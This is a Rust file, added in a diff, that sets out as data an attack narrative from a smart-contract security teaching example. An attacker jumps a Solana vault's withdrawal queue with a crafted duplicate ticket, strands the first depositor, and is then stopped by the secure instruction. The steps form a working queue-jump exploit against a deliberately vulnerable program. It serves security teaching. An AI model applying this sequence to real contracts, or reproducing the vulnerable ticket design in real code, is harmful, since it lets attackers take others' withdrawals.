@@ -0,0 +1,162 @@
+//! The attack this example teaches, as data (see `shared/secref-narrative`)
+
+use secref_prelude::narrative::{Account::*, Effect, Expect, Meta::*, Value::*, *};
+
+/// Mallory queues at Alice's ticket, cranks her copy first, and strands Alice
+pub fn attack_narrative() -> Narrative {
+    Narrative {
+        title: "A withdrawal queue jumped by a crafted ticket",
+        program: "withdraw_queue",
+        summary: "The vulnerable request takes its ticket from the caller and its address from the caller's key, \
+                  so two requests can hold the head's ticket; the secure request takes the counter's next ticket, \
+                  at an address derived from the ticket alone.",
+        actors: &[
+            Actor {
+                name: "admin",
+                lamports: 1_000_000_000,
+                role: "the vault's admin",
+            },
+            Actor {
+                name: "alice",
+                lamports: 3_000_000_000,
+                role: "a depositor, first in line",
+            },
+            Actor {
+                name: "mallory",
+                lamports: 3_000_000_000,
+                role: "the attacker",
+            },
+        ],
+        accounts: &[
+            ("vault", Pda(&[Str("vault"), Key("admin")])),
+            ("alices_position", Pda(&[Str("position"), Key("vault"), Key("alice")])),
+            ("mallorys_position", Pda(&[Str("position"), Key("vault"), Key("mallory")])),
+            ("alices_request", Pda(&[Str("request"), Key("vault"), Key("alice"), U64(0)])),
+            ("mallorys_request", Pda(&[Str("request"), Key("vault"), Key("mallory"), U64(0)])),
+            ("ticket_0", Pda(&[Str("request"), Key("vault"), U64(0)])),
+        ],
+        steps: &[
+            Step {
+                actor: "admin",
+                action: "opens the vault",
+                instruction: "initialize_vault",
+                accounts: &[Mut("vault"), SignerMut("admin"), Read("system_program")],
+                args: &[],
+                expect: Expect::Ok,
+                effects: &[],
+            },
+            Step {
+                actor: "alice",
+                action: "deposits 1 SOL",
+                instruction: "deposit",
+                accounts: &[Mut("vault"), Mut("alices_position"), SignerMut("alice"), Read("system_program")],
+                args: &[U64(1_000_000_000)],
+                expect: Expect::Ok,
+                effects: &[],
+            },
+            Step {
+                actor: "mallory",
+                action: "deposits 2 SOL",
+                instruction: "deposit",
+                accounts: &[Mut("vault"), Mut("mallorys_position"), SignerMut("mallory"), Read("system_program")],
+                args: &[U64(2_000_000_000)],
+                expect: Expect::Ok,
+                effects: &[],
+            },
+            Step {
+                actor: "admin",
+                action: "deploys all of it",
+                instruction: "deploy",
+                accounts: &[Mut("vault"), SignerMut("admin"), Read("system_program")],
+                args: &[U64(3_000_000_000)],
+                expect: Expect::Ok,
+                effects: &[],
+            },
+            Step {
+                actor: "alice",
+                action: "queues her 1 SOL first, at ticket 0",
+                instruction: "vulnerable_request_withdrawal",
+                accounts: &[
+                    Mut("vault"),
+                    Mut("alices_position"),
+                    Mut("alices_request"),
+                    SignerMut("alice"),
+                    Read("system_program"),
+                ],
+                args: &[U64(0), U64(1_000_000_000)],
+                expect: Expect::Ok,
+                effects: &[],
+            },
+            Step {
+                actor: "mallory",
+                action: "queues 1 SOL at ticket 0 too, at an address her own key makes free",
+                instruction: "vulnerable_request_withdrawal",
+                accounts: &[
+                    Mut("vault"),
+                    Mut("mallorys_position"),
+                    Mut("mallorys_request"),
+                    SignerMut("mallory"),
+                    Read("system_program"),
+                ],
+                args: &[U64(0), U64(1_000_000_000)],
+                expect: Expect::Ok,
+                effects: &[],
+            },
+            Step {
+                actor: "admin",
+                action: "returns 1 SOL",
+                instruction: "return_funds",
+                accounts: &[Mut("vault"), SignerMut("admin"), Read("system_program")],
+                args: &[U64(1_000_000_000)],
+                expect: Expect::Ok,
+                effects: &[],
+            },
+            Step {
+                actor: "mallory",
+                action: "cranks her copy of ticket 0 before anyone else",
+                instruction: "vulnerable_process_queue",
+                accounts: &[Mut("vault"), Mut("mallorys_request"), Mut("mallory")],
+                args: &[],
+                expect: Expect::Ok,
+                effects: &[
+                    Effect::Closed("mallorys_request"),
+                    Effect::Field {
+                        account: "vault",
+                        field: "head",
+                        offset: 56,
+                        value: U64(1),
+                    },
+                ],
+            },
+            Step {
+                actor: "alice",
+                action: "cranks her own request, which the head has passed",
+                instruction: "vulnerable_process_queue",
+                accounts: &[Mut("vault"), Mut("alices_request"), Mut("alice")],
+                args: &[],
+                expect: Expect::Fails("TicketOutOfOrder"),
+                effects: &[Effect::Field {
+                    account: "alices_request",
+                    field: "amount",
+                    offset: 72,
+                    value: U64(1_000_000_000),
+                }],
+            },
+            Step {
+                actor: "mallory",
+                action: "tries the same jump through the secure request, at ticket 0's own address",
+                instruction: "secure_request_withdrawal",
+                accounts: &[
+                    Mut("vault"),
+                    Mut("mallorys_position"),
+                    Mut("ticket_0"),
+                    SignerMut("mallory"),
+                    Read("system_program"),
+                ],
+                args: &[U64(1_000_000_000)],
+                expect: Expect::Fails("ConstraintSeeds"),
+                effects: &[],
+            },
+        ],
+    }
+}